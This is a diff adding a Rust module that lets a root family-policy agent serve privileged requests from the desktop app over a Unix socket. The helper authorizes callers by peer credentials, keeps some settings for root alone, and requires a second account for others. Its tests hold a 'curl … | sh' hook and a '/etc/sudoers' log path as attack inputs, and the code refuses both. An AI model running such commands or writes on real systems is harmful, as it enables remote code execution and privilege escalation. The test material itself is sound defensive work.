@@ -0,0 +1,535 @@
+//! Privileged operations for the desktop app, served by the agent
+//!
+//! The agent already runs as root, so rather than elevating the whole UI
+//! (and the browser engine inside it) the agent listens on a local Unix
+//! socket next to its state file for the few operations the UI needs:
+//! check and apply now, remove all policies and write the agent
+//! configuration. Callers are identified by the socket's peer credentials
+//! and must be root or an account listed in `security.helper_users`; with
+//! no accounts listed the helper isn't started. Each connection carries one
+//! JSON request line and gets one JSON response line.
+//!
+//! Accounts other than root can't change the `hooks` or `update` sections
+//! or the log file when writing the configuration: hooks run as root, the
+//! log file is written as root and `update` decides which binaries the agent
+//! installs.
+//!
+//! Some changes only happen once a second account asks for exactly the same
+//! thing within ten minutes, so one parent can't be talked into them alone:
+//! removing all policies with `security.two_person_removal`, and these
+//! changes by an account other than root:
+//!
+//! - the `security` section, or one parent could turn the rule off or let
+//!   more accounts in
+//! - the `github` section, or one parent could point the agent at an empty
+//!   policy (and send it the access token)
+//! - `agent.confirm_before_apply`, which holds back removals for approval
+//! - `agent.http_proxy` and `agent.ca_certificates`, which decide whose
+//!   answer the agent trusts when fetching the policy
+//!
+//! There is no helper on Windows yet; the UI falls back to elevating.
+
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use std::path::PathBuf;
+
+use super::AgentConfig;
+use crate::core::RemovalResult;
+
+/// Longest request accepted, to bound what an unauthenticated peer can send
+#[cfg(unix)]
+const MAX_REQUEST: u64 = 256 * 1024;
+
+/// How long a caller has to send its request
+#[cfg(unix)]
+const REQUEST_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(10);
+
+/// How long a change waits for a second account to confirm it
+#[cfg(unix)]
+const SECOND_APPROVAL_WINDOW: std::time::Duration = std::time::Duration::from_secs(10 * 60);
+
+/// An operation requested by the UI
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(tag = "op", rename_all = "snake_case")]
+pub enum HelperRequest {
+    /// Whether the caller may use the helper
+    Status,
+    /// Check for a policy update and apply it now
+    Apply,
+    /// Remove every policy the agent applied
+    Remove,
+    /// Replace the agent configuration (used from the next start)
+    WriteConfig { config: Box<AgentConfig> },
+}
+
+impl HelperRequest {
+    fn name(&self) -> &'static str {
+        match self {
+            HelperRequest::Status => "status",
+            HelperRequest::Apply => "apply",
+            HelperRequest::Remove => "remove",
+            HelperRequest::WriteConfig { .. } => "write_config",
+        }
+    }
+}
+
+/// The agent's answer to a `HelperRequest`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(tag = "status", rename_all = "snake_case")]
+pub enum HelperResponse {
+    Ready,
+    Applied { changed: bool },
+    Removed { result: RemovalResult },
+    /// The removal needs a request from another account to go ahead
+    AwaitingSecondApproval { requested_by: String },
+    ConfigSaved,
+    Error { message: String },
+}
+
+/// Where the helper listens
+pub fn socket_path() -> Result<PathBuf> {
+    Ok(crate::state::get_state_path()?.with_file_name("helper.sock"))
+}
+
+/// Send `request` to the agent's helper
+///
+/// Returns `None` if no helper is running (or on platforms without one), so
+/// the caller can fall back to doing the operation itself.
+#[cfg(unix)]
+pub fn call(request: &HelperRequest) -> Result<Option<HelperResponse>> {
+    use std::io::{BufRead, BufReader, ErrorKind, Write};
+    use std::os::unix::net::UnixStream;
+
+    let path = socket_path()?;
+    let mut stream = match UnixStream::connect(&path) {
+        Ok(stream) => stream,
+        Err(e) if matches!(e.kind(), ErrorKind::NotFound | ErrorKind::ConnectionRefused) => {
+            return Ok(None);
+        }
+        Err(e) => return Err(e).with_context(|| format!("Failed to connect to {}", path.display())),
+    };
+    // Applying can take a while, but not forever
+    stream.set_read_timeout(Some(std::time::Duration::from_secs(300)))?;
+
+    let mut line = serde_json::to_string(request)?;
+    line.push('\n');
+    stream.write_all(line.as_bytes()).context("Failed to send request to the agent")?;
+
+    let mut response = String::new();
+    BufReader::new(stream)
+        .read_line(&mut response)
+        .context("Failed to read the agent's response")?;
+    let response = serde_json::from_str(&response).context("Invalid response from the agent")?;
+    Ok(Some(response))
+}
+
+#[cfg(not(unix))]
+pub fn call(_request: &HelperRequest) -> Result<Option<HelperResponse>> {
+    Ok(None)
+}
+
+/// Serve helper requests until the returned future is dropped
+///
+/// `applying` is held while policies are written, so requests don't
+/// interleave with the daemon's own checks.
+#[cfg(unix)]
+pub async fn serve(config: AgentConfig, applying: std::sync::Arc<tokio::sync::Mutex<()>>) -> Result<()> {
+    use tokio::net::UnixListener;
+
+    let path = socket_path()?;
+    // Left behind if the agent was killed
+    let _ = std::fs::remove_file(&path);
+    let listener =
+        UnixListener::bind(&path).with_context(|| format!("Failed to listen on {}", path.display()))?;
+    // Anyone may connect; requests are authorized by peer credentials
+    crate::platform::common::set_file_permissions(&path, 0o666)?;
+    tracing::info!("Helper listening on {}", path.display());
+
+    let helper = std::sync::Arc::new(Helper {
+        saved: std::sync::RwLock::new(config.clone()),
+        started: config,
+        applying,
+        pending: std::sync::Mutex::new(None),
+    });
+    loop {
+        let (stream, _) = listener.accept().await.context("Failed to accept helper connection")?;
+        let helper = helper.clone();
+        tokio::spawn(async move {
+            if let Err(e) = handle_connection(stream, &helper).await {
+                tracing::warn!("Helper request failed: {:#}", e);
+            }
+        });
+    }
+}
+
+/// What the helper's connections share
+#[cfg(unix)]
+struct Helper {
+    /// The configuration the agent is running with, used to apply
+    started: AgentConfig,
+    /// The configuration as last saved, which decides who may use the
+    /// helper and what they may change
+    saved: std::sync::RwLock<AgentConfig>,
+    applying: std::sync::Arc<tokio::sync::Mutex<()>>,
+    pending: std::sync::Mutex<Option<PendingApproval>>,
+}
+
+#[cfg(unix)]
+impl Helper {
+    fn saved(&self) -> AgentConfig {
+        self.saved.read().unwrap_or_else(|e| e.into_inner()).clone()
+    }
+}
+
+#[cfg(unix)]
+async fn handle_connection(stream: tokio::net::UnixStream, helper: &Helper) -> Result<()> {
+    use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
+
+    let uid = stream.peer_cred().context("Failed to identify the helper caller")?.uid();
+    let user = user_name(uid).unwrap_or_else(|| format!("uid {}", uid));
+    let (read, mut write) = stream.into_split();
+
+    // Refuse strangers before reading anything from them
+    let response = if !is_authorized(uid, &user, &helper.saved().security.helper_users) {
+        tracing::warn!("Refused helper request from {}", user);
+        HelperResponse::Error {
+            message: format!("{} is not allowed to manage Family Policy (see security.helper_users)", user),
+        }
+    } else {
+        let mut line = String::new();
+        let mut reader = BufReader::new(read.take(MAX_REQUEST));
+        tokio::time::timeout(REQUEST_TIMEOUT, reader.read_line(&mut line))
+            .await
+            .with_context(|| format!("Timed out waiting for a request from {}", user))??;
+
+        match serde_json::from_str::<HelperRequest>(&line) {
+            Ok(request) => {
+                tracing::info!("Helper request '{}' from {}", request.name(), user);
+                handle_request(request, uid, &user, helper)
+                    .await
+                    .unwrap_or_else(|e| HelperResponse::Error { message: format!("{:#}", e) })
+            }
+            Err(e) => HelperResponse::Error {
+                message: format!("Invalid request: {}", e),
+            },
+        }
+    };
+
+    let mut reply = serde_json::to_string(&response)?;
+    reply.push('\n');
+    write.write_all(reply.as_bytes()).await?;
+    Ok(())
+}
+
+#[cfg(unix)]
+async fn handle_request(
+    request: HelperRequest,
+    uid: libc::uid_t,
+    user: &str,
+    helper: &Helper,
+) -> Result<HelperResponse> {
+    match request {
+        HelperRequest::Status => Ok(HelperResponse::Ready),
+        HelperRequest::Apply => {
+            let _applying = helper.applying.lock().await;
+            let changed = super::check_and_apply_once(&helper.started, false).await?;
+            Ok(HelperResponse::Applied { changed })
+        }
+        HelperRequest::Remove => {
+            if helper.saved().security.two_person_removal {
+                let mut pending = helper.pending.lock().unwrap_or_else(|e| e.into_inner());
+                let now = std::time::Instant::now();
+                if let Some(requested_by) = second_approval(&mut pending, "remove", user, now) {
+                    tracing::info!("Removal requested by {}, waiting for a second account", requested_by);
+                    return Ok(HelperResponse::AwaitingSecondApproval { requested_by });
+                }
+                tracing::info!("Removal confirmed by {}", user);
+            }
+            let _applying = helper.applying.lock().await;
+            let result = tokio::task::spawn_blocking(|| crate::core::remove_all_policies(false)).await??;
+            Ok(HelperResponse::Removed { result })
+        }
+        HelperRequest::WriteConfig { config: new_config } => {
+            new_config.validate()?;
+            let path = super::get_agent_config_path()?;
+            // Compare with what the agent would load now, drop-ins and
+            // environment included, since the file may have changed since
+            let current = if path.exists() {
+                AgentConfig::load_layered(&path, &[])?.config
+            } else {
+                helper.saved()
+            };
+            if check_config_change(&current, &new_config, uid)? == ConfigChange::NeedsSecondApproval {
+                // The second account must ask for the very same configuration
+                let json = serde_json::to_string(&new_config)?;
+                let action = format!("write_config {}", crate::state::compute_content_hash(&json));
+                let mut pending = helper.pending.lock().unwrap_or_else(|e| e.into_inner());
+                let now = std::time::Instant::now();
+                if let Some(requested_by) = second_approval(&mut pending, &action, user, now) {
+                    tracing::info!(
+                        "Protected settings change requested by {}, waiting for a second account",
+                        requested_by
+                    );
+                    return Ok(HelperResponse::AwaitingSecondApproval { requested_by });
+                }
+                tracing::info!("Protected settings change confirmed by {}", user);
+            }
+            new_config.save(&path)?;
+            // Later requests are authorized and checked against the new
+            // settings rather than the ones the agent started with
+            let saved = AgentConfig::load_layered(&path, &[])?.config;
+            *helper.saved.write().unwrap_or_else(|e| e.into_inner()) = saved;
+            Ok(HelperResponse::ConfigSaved)
+        }
+    }
+}
+
+/// Whether a configuration change may be saved straight away
+#[cfg(unix)]
+#[derive(Debug, PartialEq, Eq)]
+enum ConfigChange {
+    Allowed,
+    /// It changes settings that guard the policy, so another account must
+    /// ask for it too
+    NeedsSecondApproval,
+}
+
+/// Refuse changes to the settings only root may make through the helper
+#[cfg(unix)]
+fn check_config_change(current: &AgentConfig, new: &AgentConfig, uid: libc::uid_t) -> Result<ConfigChange> {
+    if uid == 0 {
+        return Ok(ConfigChange::Allowed);
+    }
+    let changed = root_only_changes(current, new)?;
+    if !changed.is_empty() {
+        anyhow::bail!("Only root can change {}", changed.join(", "));
+    }
+    if !second_approval_changes(current, new)?.is_empty() {
+        return Ok(ConfigChange::NeedsSecondApproval);
+    }
+    Ok(ConfigChange::Allowed)
+}
+
+/// The settings that need a second account that differ between the configs
+#[cfg(unix)]
+fn second_approval_changes(current: &AgentConfig, new: &AgentConfig) -> Result<Vec<&'static str>> {
+    let mut changed = Vec::new();
+    if differs(&current.security, &new.security)? {
+        changed.push("security");
+    }
+    if differs(&current.github, &new.github)? {
+        changed.push("github");
+    }
+    if current.agent.confirm_before_apply != new.agent.confirm_before_apply {
+        changed.push("agent.confirm_before_apply");
+    }
+    if current.agent.http_proxy != new.agent.http_proxy {
+        changed.push("agent.http_proxy");
+    }
+    if current.agent.ca_certificates != new.agent.ca_certificates {
+        changed.push("agent.ca_certificates");
+    }
+    Ok(changed)
+}
+
+/// The settings only root may change that differ between the configs
+#[cfg(unix)]
+fn root_only_changes(current: &AgentConfig, new: &AgentConfig) -> Result<Vec<&'static str>> {
+    let mut changed = Vec::new();
+    if differs(&current.hooks, &new.hooks)? {
+        changed.push("hooks");
+    }
+    if differs(&current.update, &new.update)? {
+        changed.push("update");
+    }
+    if current.logging.file != new.logging.file {
+        changed.push("logging.file");
+    }
+    Ok(changed)
+}
+
+#[cfg(unix)]
+fn differs<T: Serialize>(a: &T, b: &T) -> Result<bool> {
+    Ok(serde_json::to_value(a)? != serde_json::to_value(b)?)
+}
+
+/// A change waiting for a second account
+#[cfg(unix)]
+#[derive(Debug)]
+struct PendingApproval {
+    /// What was asked for, e.g. `remove`
+    action: String,
+    user: String,
+    at: std::time::Instant,
+}
+
+/// Record `user`'s request for `action`
+///
+/// Returns who requested it if the action must keep waiting: it's the
+/// first request, or the earlier one was for something else, by the same
+/// account or expired. Only one action waits at a time.
+#[cfg(unix)]
+fn second_approval(
+    pending: &mut Option<PendingApproval>,
+    action: &str,
+    user: &str,
+    now: std::time::Instant,
+) -> Option<String> {
+    match pending.take() {
+        Some(first)
+            if first.action == action
+                && first.user != user
+                && now.duration_since(first.at) <= SECOND_APPROVAL_WINDOW =>
+        {
+            None
+        }
+        _ => {
+            *pending = Some(PendingApproval {
+                action: action.to_string(),
+                user: user.to_string(),
+                at: now,
+            });
+            Some(user.to_string())
+        }
+    }
+}
+
+/// Root, and the accounts listed in `helper_users`, may use the helper
+#[cfg(unix)]
+fn is_authorized(uid: libc::uid_t, user: &str, helper_users: &[String]) -> bool {
+    uid == 0 || helper_users.iter().any(|allowed| allowed == user)
+}
+
+/// The login name of a local account
+#[cfg(unix)]
+fn user_name(uid: libc::uid_t) -> Option<String> {
+    let mut passwd: libc::passwd = unsafe { std::mem::zeroed() };
+    let mut buffer = vec![0 as libc::c_char; 4096];
+    let mut result = std::ptr::null_mut();
+    let rc = unsafe { libc::getpwuid_r(uid, &mut passwd, buffer.as_mut_ptr(), buffer.len(), &mut result) };
+    if rc != 0 || result.is_null() {
+        return None;
+    }
+    let name = unsafe { std::ffi::CStr::from_ptr(passwd.pw_name) };
+    Some(name.to_string_lossy().into_owned())
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_root_and_listed_users_are_authorized() {
+        let users = vec!["parent".to_string()];
+
+        assert!(is_authorized(0, "root", &[]));
+        assert!(is_authorized(1000, "parent", &users));
+        assert!(!is_authorized(1001, "child", &users));
+        assert!(!is_authorized(1000, "parent", &[]));
+    }
+
+    #[test]
+    fn removal_needs_a_second_account_in_time() {
+        let start = std::time::Instant::now();
+        let mut pending = None;
+
+        assert_eq!(second_approval(&mut pending, "remove", "mum", start), Some("mum".to_string()));
+        // Asking again doesn't count as a second approval
+        assert_eq!(second_approval(&mut pending, "remove", "mum", start), Some("mum".to_string()));
+        assert_eq!(second_approval(&mut pending, "remove", "dad", start), None);
+        assert!(pending.is_none());
+
+        second_approval(&mut pending, "remove", "mum", start);
+        let late = start + SECOND_APPROVAL_WINDOW + std::time::Duration::from_secs(1);
+        assert_eq!(second_approval(&mut pending, "remove", "dad", late), Some("dad".to_string()));
+    }
+
+    #[test]
+    fn second_approval_must_be_for_the_same_action() {
+        let start = std::time::Instant::now();
+        let mut pending = None;
+
+        let (a, b) = ("write_config sha256:a", "write_config sha256:b");
+
+        second_approval(&mut pending, a, "mum", start);
+        assert_eq!(second_approval(&mut pending, "remove", "dad", start), Some("dad".to_string()));
+        assert_eq!(second_approval(&mut pending, a, "mum", start), Some("mum".to_string()));
+        assert_eq!(second_approval(&mut pending, b, "dad", start), Some("dad".to_string()));
+        assert_eq!(second_approval(&mut pending, b, "mum", start), None);
+    }
+
+    #[test]
+    fn only_root_can_set_hooks() {
+        let current = AgentConfig::default();
+        let mut new = current.clone();
+        new.hooks.pre_apply = Some("curl https://example.com/x | sh".to_string());
+
+        let error = check_config_change(&current, &new, 1000).unwrap_err();
+        assert_eq!(error.to_string(), "Only root can change hooks");
+        assert_eq!(check_config_change(&current, &new, 0).unwrap(), ConfigChange::Allowed);
+    }
+
+    #[test]
+    fn other_accounts_may_change_the_remaining_settings() {
+        let current = AgentConfig::default();
+        let mut new = current.clone();
+        new.agent.poll_interval = 900;
+        new.agent.low_power = true;
+        assert_eq!(check_config_change(&current, &new, 1000).unwrap(), ConfigChange::Allowed);
+
+        new.update.public_key = Some("RWQ...".to_string());
+        new.logging.file = Some("/etc/sudoers".into());
+        let error = check_config_change(&current, &new, 1000).unwrap_err();
+        assert_eq!(error.to_string(), "Only root can change update, logging.file");
+    }
+
+    #[test]
+    fn security_changes_need_a_second_account() {
+        let mut current = AgentConfig::default();
+        current.security.helper_users = vec!["mum".to_string(), "dad".to_string()];
+        current.security.two_person_removal = true;
+
+        let mut off = current.clone();
+        off.security.two_person_removal = false;
+        assert_eq!(check_config_change(&current, &off, 1000).unwrap(), ConfigChange::NeedsSecondApproval);
+
+        let mut more_users = current.clone();
+        more_users.security.helper_users.push("child".to_string());
+        assert_eq!(
+            check_config_change(&current, &more_users, 1000).unwrap(),
+            ConfigChange::NeedsSecondApproval
+        );
+        assert_eq!(check_config_change(&current, &more_users, 0).unwrap(), ConfigChange::Allowed);
+    }
+
+    #[test]
+    fn policy_source_and_approval_changes_need_a_second_account() {
+        let current = AgentConfig::default();
+
+        let mut url = current.clone();
+        url.github.policy_url = "https://example.com/empty.yaml".to_string();
+        let mut token = current.clone();
+        token.github.access_token = Some("ghp_example".to_string());
+        let mut confirm = current.clone();
+        confirm.agent.confirm_before_apply = !current.agent.confirm_before_apply;
+        let mut proxy = current.clone();
+        proxy.agent.http_proxy = Some("http://proxy.lan:3128".to_string());
+        let mut ca = current.clone();
+        ca.agent.ca_certificates = vec!["/home/mum/ca.pem".into()];
+
+        for new in [&url, &token, &confirm, &proxy, &ca] {
+            assert_eq!(check_config_change(&current, new, 1000).unwrap(), ConfigChange::NeedsSecondApproval);
+            assert_eq!(check_config_change(&current, new, 0).unwrap(), ConfigChange::Allowed);
+        }
+        assert_eq!(second_approval_changes(&current, &url).unwrap(), ["github"]);
+    }
+
+    #[test]
+    fn requests_round_trip_as_json() {
+        let json = serde_json::to_string(&HelperRequest::Apply).unwrap();
+        assert_eq!(json, r#"{"op":"apply"}"#);
+
+        let response: HelperResponse = serde_json::from_str(r#"{"status":"applied","changed":true}"#).unwrap();
+        assert!(matches!(response, HelperResponse::Applied { changed: true }));
+    }
+}